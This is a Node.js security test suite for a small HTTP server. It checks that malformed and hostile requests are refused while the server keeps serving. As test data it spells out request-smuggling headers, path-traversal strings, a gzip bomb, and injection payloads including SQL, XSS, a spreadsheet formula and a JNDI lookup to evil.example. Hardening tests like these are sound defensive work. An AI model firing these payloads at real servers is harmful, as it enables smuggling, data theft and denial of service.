// What an attacker, a broken proxy or a scanner sends, against the real program. After each of it the hub still serves.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, afterEach, before, test } from 'node:test';
import { setTimeout as wait } from 'node:timers/promises';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { headersOf, securityHeaders } from '../../build-scripts/headers.mjs';
import { Hub, head } from './running.mjs';

const site = mkdtempSync(join(tmpdir(), 'takestock-site-'));
const script = 'x = 1;\n'.repeat(400);
mkdirSync(join(site, 'assets'));
writeFileSync(join(site, 'index.html'), '<!doctype html><title>Here</title>');
for (const [end, bytes] of [['', script], ['.br', brotliCompressSync(script)], ['.gz', gzipSync(script)]]) writeFileSync(join(site, `assets/app-D8_-w6t1.js${end}`), bytes);
writeFileSync(join(site, '.secret'), 'no');
mkdirSync(join(site, 'team'));
writeFileSync(join(site, 'team/index.html'), '<!doctype html><title>The team</title>');
mkdirSync(join(site, 'field'));
writeFileSync(join(site, 'field/index.html'), '<!doctype html><title>Fieldwork</title>');

let hub;
before(async () => (hub = await Hub.start({ arguments: ['--site', site], settings: { limits: { requests_per_second: 1000, requests_burst: 100000 } } })));
after(async () => {
  await hub.remove();
  rmSync(site, { recursive: true });
});
afterEach(async () => assert.equal((await hub.ask('/health')).status, 200, 'still serving'));

const get = (headers = [], line = 'GET /health') => head(hub, line, headers);
const post = (headers, body = '') => head(hub, 'POST /api/v1/session', headers) + body;
const push = '/api/v1/session';

const malformed = {
  'no request line': '\r\n\r\n',
  'bytes that are no HTTP': '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n',
  'a line that ends with LF alone': () => `GET /health HTTP/1.1\nHost: 127.0.0.1:${hub.port}\n\n`,
  'CR within a line': () => get(['X: a\rb']),
  'NUL in a field': () => get(['X: a\0b']),
  'a folded line': () => get(['X: a\r\n b']),
  'a space before the colon': () => get(['X : a']),
  'a field without a name': () => get([': a']),
  'a field without a colon': () => get(['X']),
  'two spaces in the request line': () => get([], 'GET  /health'),
  'a version that is none': () => get().replace('HTTP/1.1', 'HTTP/9.9'),
  'no version': () => get().replace(' HTTP/1.1', ''),
  'no host': 'GET /health HTTP/1.1\r\n\r\n',
  'two hosts': () => get([`Host: 127.0.0.1:${hub.port}`, `Host: 127.0.0.1:${hub.port}`]),
  'two lengths': () => post(['Content-Length: 2', 'Content-Length: 3'], '{}x'),
  'the same length twice': () => post(['Content-Length: 2', 'Content-Length: 2'], '{}'),
  'lengths in a list': () => post(['Content-Length: 2, 2'], '{}'),
  'a length with a sign': () => post(['Content-Length: +2'], '{}'),
  'a negative length': () => post(['Content-Length: -2'], '{}'),
  'a length in hexadecimal': () => post(['Content-Length: 0x2'], '{}'),
  'a length over 64 bits': () => post(['Content-Length: 99999999999999999999999'], '{}'),
  'a length beside chunks': () => post(['Content-Length: 2', 'Transfer-Encoding: chunked'], '2\r\n{}\r\n0\r\n\r\n'),
  'chunks beside a length': () => post(['Transfer-Encoding: chunked', 'Content-Length: 2'], '2\r\n{}\r\n0\r\n\r\n'),
  'another transfer coding': () => post(['Transfer-Encoding: gzip, chunked'], '2\r\n{}\r\n0\r\n\r\n'),
  'transfer coding identity': () => post(['Transfer-Encoding: identity'], '{}'),
  'a disguised transfer coding': () => post(['Transfer-Encoding: xchunked'], '{}'),
  'two transfer codings': () => post(['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'], '0\r\n\r\n'),
  'chunks in HTTP/1.0': () => post(['Transfer-Encoding: chunked'], '0\r\n\r\n').replace('HTTP/1.1', 'HTTP/1.0'),
  'a chunk without a size': () => post(['Transfer-Encoding: chunked'], '\r\n{}\r\n0\r\n\r\n'),
  'a chunk whose size is no number': () => post(['Transfer-Encoding: chunked'], 'zz\r\n{}\r\n0\r\n\r\n'),
  'a chunk with a negative size': () => post(['Transfer-Encoding: chunked'], '-2\r\n{}\r\n0\r\n\r\n'),
  'a chunk of over 64 bits': () => post(['Transfer-Encoding: chunked'], 'fffffffffffffffff\r\n{}\r\n0\r\n\r\n'),
  'a chunk that is longer than it says': () => post(['Transfer-Encoding: chunked'], '1\r\n{}\r\n0\r\n\r\n'),
  'two authorisations': () => get(['Authorization: Bearer a', 'Authorization: Bearer b']),
};
for (const [what, bytes] of Object.entries(malformed)) {
  test(`${what}: refused, the connection closed, and nothing behind it read as a request`, async () => {
    const smuggled = `GET /metrics HTTP/1.1\r\nHost: 127.0.0.1:${hub.port}\r\n\r\n`;
    const { statuses, closed, text } = await hub.send((typeof bytes === 'function' ? bytes() : bytes) + smuggled, { ms: 8000 });
    assert.equal(statuses.length, 1, text);
    assert.ok([400, 413, 505].includes(statuses[0]), text);
    assert.ok(closed, text);
    assert.doesNotMatch(text, /takestock_uptime/);
  });
}

test('requests sent one behind the other are answered in turn', async () => {
  const { statuses } = await hub.send(get() + get() + get(['Connection: close']), { ms: 3000 });
  assert.deepEqual(statuses, [200, 200, 200]);
});

test('HTTP/1.0 is answered and closed', async () => {
  const { statuses, closed } = await hub.send(get().replace('HTTP/1.1', 'HTTP/1.0'));
  assert.deepEqual([statuses, closed], [[200], true]);
});

test('a head over 8 KiB is refused, in one field or in many', async () => {
  for (const fields of [[`X: ${'a'.repeat(9000)}`], Array.from({ length: 600 }, (_, i) => `X-${i}: some value`)]) {
    const { statuses, closed } = await hub.send(get(fields), { ms: 8000 });
    assert.deepEqual([statuses, closed], [[431], true]);
  }
});

test('a target of 8 KiB is refused', async () => {
  assert.deepEqual((await hub.send(get([], `GET /${'a'.repeat(9000)}`), { ms: 8000 })).statuses, [431]);
});

const outside = ['/../settings.json', '/assets/../../hub.db', '/%2e%2e/settings.json', '/..%2fsettings.json', '/%252e%252e/settings.json', '/.%2e/x',
  '/assets/..%5c..%5chub.db', '/assets\\..\\hub.db', '/%00', '/index.html%00.js', '/./index.html', '//index.html', '/assets//app.js', '/.secret',
  '/%c0%ae%c0%ae/settings.json', '/%zz', '/%', '/a%0d%0aX:y', '/api/v1/rounds/..%2f..', '/;/../x', '/hub.db', '/settings.json', '/lock', '/.git/config'];
for (const path of outside) {
  test(`the path ${path} leads nowhere`, async () => {
    const { statuses, text } = await hub.send(get(['Connection: close'], `GET ${path}`));
    assert.ok([400, 404].includes(statuses[0]), text);
    assert.doesNotMatch(text, /SQLite format|"port"/);
    assert.doesNotMatch(text, /^X:y/m);
  });
}

test('a query with a name twice, an escape that is none or a control character is refused', async () => {
  for (const query of ['a=1&a=2', 'a=%zz', 'a=%00', 'a=%0a', 'a=%ff']) assert.equal((await hub.ask(`/api/v1/rounds?${query}`)).status, query === 'x' ? 200 : 400, query);
});

test('a target that names a host, and what is meant for proxies, are refused', async () => {
  for (const line of ['GET http://evil.example/health', 'CONNECT evil.example:443', 'OPTIONS *', 'GET evil.example'])
    assert.ok([400, 405, 501].includes((await hub.send(get(['Connection: close'], line))).statuses[0]), line);
});

test('only methods that a path has are taken, and which those are is said', async () => {
  for (const method of ['PUT', 'PATCH', 'DELETE', 'OPTIONS', 'POST']) {
    const answer = await hub.ask('/health', { method });
    assert.deepEqual([answer.status, answer.headers.allow], [405, 'GET'], method);
  }
  for (const method of ['TRACE', 'PROPFIND', 'BREW']) {
    const { statuses, text } = await hub.send(get(['Connection: close'], `${method} /health`));
    assert.ok([400, 501].includes(statuses[0]), text);
  }
  assert.equal((await hub.ask('/index.html', { method: 'POST' })).status, 405);
});

test('HEAD has the headers of GET and no body', async () => {
  const [all, only] = [await hub.ask('/'), await hub.ask('/', { method: 'HEAD' })];
  assert.equal(only.body, '');
  assert.equal(only.headers['content-length'], all.headers['content-length']);
});

for (const host of ['evil.example', 'evil.example:PORT', '127.0.0.1', '127.0.0.1:1', '127.0.0.1:PORT.evil.example', 'localhost:PORT@evil.example', '']) {
  test(`the host "${host}" is not served, and appears in no answer`, async () => {
    const { statuses, text } = await hub.send(get([`Host: ${host.replace('PORT', hub.port)}`, 'X-Forwarded-Host: evil.example', 'Connection: close']));
    assert.equal(statuses[0], 421, text);
    assert.doesNotMatch(text, /evil/);
  });
}

test('forwarding headers of a stranger change nothing and appear nowhere', async () => {
  for (const path of ['/', '/health', '/api/v1/rounds', '/nowhere']) {
    const { text } = await hub.send(get(['X-Forwarded-Host: evil.example', 'Forwarded: host=evil.example', 'X-Forwarded-For: 203.0.113.9', 'Connection: close'], `GET ${path}`));
    assert.doesNotMatch(text, /evil|203\.0\.113/);
  }
  assert.doesNotMatch(hub.log, /203\.0\.113/);
});

test('pages of another site can send nothing, and are told nothing', async () => {
  for (const origin of ['https://evil.example', 'null', `http://127.0.0.1:${hub.port}.evil.example`, `http://evil.example:${hub.port}`, 'https://127.0.0.1']) {
    const answer = await hub.ask(push, { method: 'POST', headers: { Origin: origin, 'Content-Type': 'text/plain' }, body: '{}' });
    assert.equal(answer.status, 403, origin);
    const preflight = await hub.ask(push, { method: 'OPTIONS', headers: { Origin: origin, 'Access-Control-Request-Method': 'POST' } });
    assert.notEqual(preflight.status, 200);
    for (const each of [answer, preflight, await hub.ask('/api/v1/rounds', { headers: { Origin: origin } })])
      assert.deepEqual(Object.keys(each.headers).filter((name) => name.startsWith('access-control')), []);
  }
  const own = await hub.ask(push, { method: 'POST', headers: { Origin: `http://127.0.0.1:${hub.port}` }, body: '{}' });
  assert.notEqual(own.status, 403);
});

test('every answer has the security headers, whatever it answers; the interface is never cached, and no server is named', async () => {
  const answers = [await hub.ask('/'), await hub.ask('/health'), await hub.ask('/nowhere'), await hub.ask('/health', { method: 'PUT' }), await hub.ask('/%00'),
    await hub.ask('/api/v1/session'), await hub.ask('/api/v1/rounds'), await hub.ask('/', { headers: { 'If-None-Match': (await hub.ask('/')).headers.etag } }),
    await hub.ask('/health', { headers: { Host: 'evil.example' } }), await hub.ask(push, { method: 'POST', headers: { 'Content-Length': 10_000_000 } }).catch(() => null)];
  assert.deepEqual(answers.filter(Boolean).map((answer) => answer.status), [200, 200, 404, 405, 400, 401, 200, 304, 421, 413]);
  for (const { headers, status } of answers.filter(Boolean)) {
    for (const [name, value] of Object.entries(securityHeaders)) assert.equal(headers[name.toLowerCase()], value, `${status} ${name}`);
    assert.equal(headers.server, undefined);
    assert.equal(headers['set-cookie'], undefined);
  }
  for (const { headers } of answers.slice(1, 7)) assert.equal(headers['cache-control'], 'no-store');
  const broken = await hub.send('nonsense\r\n\r\n');
  for (const [name, value] of Object.entries(securityHeaders)) assert.ok(broken.text.includes(`${name}: ${value}\r\n`), name);
});

test('only the fieldwork page may use the camera, the microphone and the position, and show what they gave', async () => {
  const { headers } = await hub.ask('/field/');
  for (const [name, value] of Object.entries(headersOf('/field/'))) assert.equal(headers[name.toLowerCase()], value, name);
  assert.equal(headers['permissions-policy'], 'camera=(self), geolocation=(self), microphone=(self)');
  assert.match(headers['content-security-policy'], /img-src 'self' data: blob:; media-src blob:;/);
  for (const path of ['/', '/team/', '/field']) assert.equal((await hub.ask(path)).headers['permissions-policy'], 'camera=(), geolocation=(), microphone=()', path);
});

test('behind TLS browsers are told to stay with it', async () => {
  const other = await Hub.start({ settings: { origin: 'https://survey.example.org', port: 48_123 } });
  const own = await other.ask('/health', { headers: { Host: 'survey.example.org' } });
  assert.deepEqual([own.status, own.headers['strict-transport-security']], [200, 'max-age=31536000']);
  assert.equal((await other.ask('/health', { headers: { Host: 'survey.example.org:80' } })).status, 421);
  assert.equal((await other.ask(push, { method: 'POST', headers: { Host: 'survey.example.org', Origin: 'http://survey.example.org' }, body: '{}' })).status, 403);
  await other.remove();
});

test('a body over the limit is refused from its length, before it is sent, and the client can read that', async () => {
  const { statuses, closed } = await hub.send(post(['Content-Length: 100000000']), { ms: 8000 });
  assert.deepEqual([statuses, closed], [[413], true]);
  const all = await hub.ask(push, { method: 'POST', body: Buffer.alloc(4_000_000, 'x') });
  assert.equal(all.status, 413);
});

test('who is not signed in is told so before a large body is read', async () => {
  const line = 'POST /api/v1/team/rounds/any/results-file';
  for (const length of ['Content-Length: 60000000', 'Transfer-Encoding: chunked']) {
    const { statuses, closed } = await hub.send(head(hub, line, [length, 'Authorization: Bearer nobody']), { ms: 8000 });
    assert.deepEqual([statuses, closed], [[401], true], length);
  }
});

test('a body over the limit in chunks is refused when the limit is reached', async () => {
  const chunk = `10000\r\n${'x'.repeat(65536)}\r\n`;
  const { statuses, closed } = await hub.send(post(['Transfer-Encoding: chunked']) + chunk.repeat(40), { ms: 8000 });
  assert.deepEqual([statuses, closed], [[413], true]);
});

test('a body where none is taken is refused', async () => {
  assert.equal((await hub.ask('/health', { headers: { 'Content-Length': 1 }, body: 'x' })).status, 413);
});

test('what becomes too large when it is unpacked is refused, and memory does not grow with it', async () => {
  const rss = () => Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${hub.process.pid}/status`, 'utf8'))[1]);
  const bomb = gzipSync(Buffer.alloc(200_000_000));
  const small = bomb.subarray(0, 4000);
  const before = rss();
  for (const body of [bomb, small]) assert.ok([400, 413].includes((await hub.ask(push, { method: 'POST', headers: { 'Content-Encoding': 'gzip' }, body })).status));
  assert.ok(rss() - before < 20_000, `${rss() - before} KiB more`);
});

test('gzip that is none, is cut off or has something behind it is refused; so are other codings', async () => {
  const good = gzipSync('{"user":"a","password":"b"}');
  const refused = [Buffer.from('no gzip'), good.subarray(0, -5), Buffer.concat([good, Buffer.from('x')]), Buffer.concat([good, good])];
  for (const body of refused) assert.equal((await hub.ask(push, { method: 'POST', headers: { 'Content-Encoding': 'gzip' }, body })).status, 400);
  assert.equal((await hub.ask(push, { method: 'POST', headers: { 'Content-Encoding': 'gzip' }, body: good })).status, 401);
  for (const coding of ['br', 'deflate', 'gzip, gzip']) assert.equal((await hub.ask(push, { method: 'POST', headers: { 'Content-Encoding': coding }, body: good })).status, 415);
});

test('100-continue is given, and nothing else can be expected', async () => {
  const both = await hub.send(post(['Content-Length: 2', 'Expect: 100-continue', 'Connection: close'], '{}'));
  assert.equal(both.statuses[0], 100);
  assert.equal(both.statuses.length, 2);
  assert.deepEqual((await hub.send(post(['Content-Length: 2', 'Expect: miracles'], '{}'), { ms: 8000 })).statuses, [417]);
});

const injections = ["' OR '1'='1", "'; DROP TABLE account; --", '{{7*7}}', '${jndi:ldap://evil.example/x}', '<script>alert(1)</script>', '=cmd|calc', '../../etc/passwd', '\u202e', 'a'.repeat(3000)];
test('strings of the scanners go into no statement, no page and no log', async () => {
  for (const text of injections) {
    for (const path of [`/api/v1/rounds/${encodeURIComponent(text)}`, `/api/v1/definitions/${encodeURIComponent(text)}`, `/api/v1/rounds?q=${encodeURIComponent(text)}`]) {
      const answer = await hub.ask(path);
      assert.ok([200, 400, 404].includes(answer.status), `${path}: ${answer.status}`);
      assert.match(answer.headers['content-type'], /^application\/json/);
    }
    const signIn = await hub.ask(push, { method: 'POST', body: JSON.stringify({ user: text, password: text }) });
    assert.ok([400, 401, 429].includes(signIn.status), `${text}: ${signIn.status}`);
  }
  for (const part of ['DROP', 'jndi', 'script', 'passwd']) assert.ok(!hub.log.includes(part), part);
});

test('a site file comes packed as the browser takes it, once', async () => {
  const path = '/assets/app-D8_-w6t1.js';
  for (const [accepted, coding] of [['br, gzip', 'br'], ['gzip', 'gzip'], ['br;q=0, gzip', 'gzip'], ['identity', undefined], ['', undefined]]) {
    const answer = await hub.ask(path, { headers: { 'Accept-Encoding': accepted } });
    assert.equal(answer.headers['content-encoding'], coding, accepted);
    assert.equal(answer.headers['cache-control'], 'public, max-age=31536000, immutable');
    assert.equal(answer.headers['content-type'], 'text/javascript; charset=utf-8');
    const again = await hub.ask(path, { headers: { 'Accept-Encoding': accepted, 'If-None-Match': answer.headers.etag } });
    assert.deepEqual([again.status, again.body], [304, '']);
  }
  assert.equal((await hub.ask(path)).body, script);
  assert.equal((await hub.ask(`${path}.br`)).status, 404, 'the packed file is not a page of its own');
  assert.equal((await hub.ask('/')).headers['cache-control'], 'no-cache');
});

test('a folder is found without its slash, on this host only', async () => {
  const moved = await hub.ask('/team');
  assert.deepEqual([moved.status, moved.headers.location], [301, '/team/']);
  assert.match((await hub.ask('/team/')).body, /The team/);
  for (const path of ['//team', '/team%2f', '/assets']) assert.ok([400, 404].includes((await hub.ask(path)).status), path);
});

test('the metrics are for the machine itself or with the operator\'s token', async () => {
  const other = await Hub.start({ settings: { operator_token: 'canary-operator-token', trusted_proxies: ['127.0.0.1'] } });
  const from = { 'X-Forwarded-For': '198.51.100.7' };
  assert.equal((await other.ask('/metrics')).status, 200);
  assert.equal((await other.ask('/metrics', { headers: from })).status, 404);
  assert.equal((await other.ask('/metrics', { headers: { ...from, Authorization: 'Bearer wrong' } })).status, 404);
  const text = (await other.ask('/metrics', { headers: { ...from, Authorization: 'Bearer canary-operator-token' } })).body;
  for (const name of ['takestock_requests_total{endpoint="/metrics",status="404"} 2', 'takestock_uptime_seconds ', 'takestock_queue{store="hub"} 0', 'takestock_commit_seconds_bucket', 'takestock_batch_jobs_count'])
    assert.ok(text.includes(name), name);
  assert.doesNotMatch(other.log, /canary-operator-token/);
  await other.remove();
});

test('an address that asks too often is told when to come again, and others are served', async () => {
  const other = await Hub.start({ settings: { limits: { requests_per_second: 1, requests_burst: 10 } } });
  const asked = await Promise.all(Array.from({ length: 30 }, () => other.ask('/health', { localAddress: '127.0.0.5' })));
  const refused = asked.filter((answer) => answer.status === 429);
  assert.ok(refused.length >= 15, `${refused.length}`);
  assert.ok(Number(refused[0].headers['retry-after']) >= 1);
  assert.equal(JSON.parse(refused[0].body).error.code, 'too_many');
  assert.equal((await other.ask('/health')).status, 200);
  await other.remove();
});

test('behind a trusted proxy the client\'s own address is counted, whatever he writes before it', async () => {
  const other = await Hub.start({ settings: { trusted_proxies: ['127.0.0.1'], limits: { requests_per_second: 0.1, requests_burst: 3 } } });
  const ask = (forwarded) => other.ask('/health', { headers: { 'X-Forwarded-For': forwarded } }).then((answer) => answer.status);
  const statuses = [];
  for (let i = 0; i < 5; i++) statuses.push(await ask(`10.0.0.${i}, 203.0.113.77`));
  assert.deepEqual(statuses, [200, 200, 200, 429, 429]);
  assert.equal(await ask('203.0.113.78'), 200);
  assert.match(other.log, /"peer":"203\.0\.113\.0\/24"/);
  assert.doesNotMatch(other.log, /203\.0\.113\.7[78]/);
  await other.remove();
});

test('sign-ins have a stricter measure than other requests', async () => {
  const other = await Hub.start({ settings: { limits: { sign_ins_per_minute: 1, sign_ins_burst: 3 } } });
  const statuses = [];
  for (let i = 0; i < 5; i++) statuses.push((await other.ask(push, { method: 'POST', body: JSON.stringify({ user: 'nobody', password: 'x'.repeat(12) }) })).status);
  assert.deepEqual(statuses.slice(3), [429, 429]);
  assert.equal((await other.ask('/api/v1/rounds')).status, 200);
  await other.remove();
});

test('an address has a number of connections, and no more', async () => {
  const other = await Hub.start({ settings: { limits: { connections_per_address: 5 } } });
  const held = Array.from({ length: 5 }, () => other.send('GET', { ms: 2500, localAddress: '127.0.0.6' }));
  await wait(500);
  const sixth = await other.send(head(other, 'GET /health'), { ms: 1500, localAddress: '127.0.0.6' });
  assert.deepEqual([sixth.statuses, sixth.closed], [[], true]);
  assert.equal((await other.ask('/health')).status, 200);
  await Promise.all(held);
  await wait(200);
  assert.equal((await other.ask('/health', { localAddress: '127.0.0.6' })).status, 200, 'and has them again afterwards');
  await other.remove();
});
